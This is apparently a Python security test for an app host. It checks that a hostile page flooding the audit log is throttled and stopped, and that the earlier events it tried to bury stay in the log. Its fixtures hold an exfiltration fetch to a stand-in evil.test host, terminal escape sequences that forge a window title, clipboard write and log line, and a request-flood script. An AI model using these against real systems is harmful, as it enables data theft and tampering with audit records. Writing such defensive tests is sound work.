"""A page in a real window floods the audit log to bury what it did (issue 12, class 3).

It first does something worth recording (a refused call, a blocked exfiltration request),
then requests a new blocked name fifty times every 20 ms, so that nothing repeats. The host
must aggregate the flood ("N more like this"), stop the app by its audit budget with the
reason shown and audited, keep the earlier security events in the log, and the log must
still verify; an app beside it keeps answering.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

from superapp.core.paths import Paths
from superapp.testing import audit_events, call, make_app, wait_for_audit, wait_for_budget_stop
from tests.audit.test_audit_terminal import parse_line, render_on_terminal
from tests.e2e.harness import HostProcess

HOSTILE = "com.attacker.auditflood"
BYSTANDER = "com.example.bystander"
SECRET = "https://exfil.evil.test/steal?note=secret"
#: Parameter names the dispatcher quotes (40 characters each) in its INVALID_PARAMS reason: a
#: window title and a line forged for another app, a clipboard write and a bell.
FORGE = ["\x1b]0;pwned\x07\n00:00 com.victim.bank", "\x1b]52;c;Zm9v\x07\x07"]

POLICY = """
[monitor]
sample_interval_s = 0.25
[monitor.net_requests]
limit = 1000000
[monitor.audit_events]
limit = 20
warn_after_s = 0
throttle_after_s = 1
terminate_after_s = 3
[bridge_rates.cheap]
burst = 100000
per_second = 100000
"""

SCRIPT = f"""
window.addEventListener('load', () => {{
  callNative('storage.get', {{key: 'diary'}}).catch(() => {{}});
  callNative('app.info', {{[{json.dumps(FORGE[0])}]: 1, [{json.dumps(FORGE[1])}]: 2}}).catch(() => {{}});
  fetch({SECRET!r}).catch(() => {{}});
  let n = 0;
  setTimeout(() => setInterval(() => {{
    for (let i = 0; i < 50; i++) {{
      const img = new Image();
      img.src = 'https://' + (n++) + '.flood.evil.test/' + 'x'.repeat(2000);
    }}
  }}, 20), 1000);
}});
"""


def test_page_flooding_the_audit_log_is_stopped_and_cannot_flush_its_earlier_events(
    tmp_path: Path,
    open_app: Any,
    superapp_home: Paths,
    hosts: list[HostProcess],
    host_env: dict[str, str],
) -> None:
    superapp_home.policy_file.write_text(POLICY, encoding="utf-8")
    _bystander_host, bystander = open_app("dev", make_app(tmp_path, BYSTANDER))
    folder = make_app(tmp_path, HOSTILE, script=SCRIPT)
    hostile_host = HostProcess(["dev", str(folder)], host_env)
    hosts.append(hostile_host)

    # Stopped by its audit budget, with the reason shown and audited.
    line, _event = wait_for_budget_stop(
        hostile_host, superapp_home, HOSTILE, "audit_events", timeout=120
    )
    assert "audit log entries a second" in line, line
    assert hostile_host.proc.wait(30) == 0

    # The flood was aggregated: the summary written at exit accounts for what was not written.
    summaries = audit_events(superapp_home, "audit.suppressed", HOSTILE)
    assert summaries, "no 'N more like this' summary"
    flood = [
        e for e in audit_events(superapp_home, "net.blocked", HOSTILE)
        if "flood.evil.test" in e["superapp"].get("url", "")
    ]  # fmt: skip
    suppressed = sum(e["superapp"]["count"] for e in summaries)
    assert suppressed > 10 * len(flood), (len(flood), suppressed)

    # What it did first is still in the log.
    wait_for_audit(
        superapp_home, lambda e: e["superapp"].get("api") == "storage.get",
        action="bridge.denied", app_id=HOSTILE, timeout=1,
    )  # fmt: skip
    wait_for_audit(
        superapp_home, lambda e: "exfil.evil.test" in e["superapp"].get("url", ""),
        action="net.blocked", app_id=HOSTILE, timeout=1,
    )  # fmt: skip

    # The log verifies, read by the real command.
    verify = subprocess.run(
        [sys.executable, "-m", "superapp", "audit", "verify"],
        env=host_env, capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip
    assert verify.returncode == 0, verify.stderr
    # The page's text reached the log, and `superapp audit` shows it inertly.
    wait_for_audit(
        superapp_home, lambda e: all(f in e["event"]["reason"] for f in FORGE),
        action="bridge.denied", app_id=HOSTILE, timeout=1,
    )  # fmt: skip
    shown = subprocess.run(
        [sys.executable, "-m", "superapp", "audit", "--app", HOSTILE],
        env=host_env, capture_output=True, text=True, timeout=60, check=True,
    ).stdout  # fmt: skip
    screen, recorder = render_on_terminal(shown)
    assert recorder.actions == [] and screen.title == ""
    rows = [row for row in screen.display if row.strip()]
    assert len(rows) == shown.count("\n") == len(audit_events(superapp_home, app_id=HOSTILE))
    assert all(parse_line(row)[2] == HOSTILE for row in rows)
    size = sum(p.stat().st_size for p in superapp_home.audit_log.parent.glob("audit.jsonl*"))
    print(
        f"\nwindow flood: {len(flood)} flood entries written, {suppressed} summarised; "
        f"audit files {size} bytes"
    )
    # The other app never noticed.
    assert call(bystander, "app.info")["result"]["appId"] == BYSTANDER
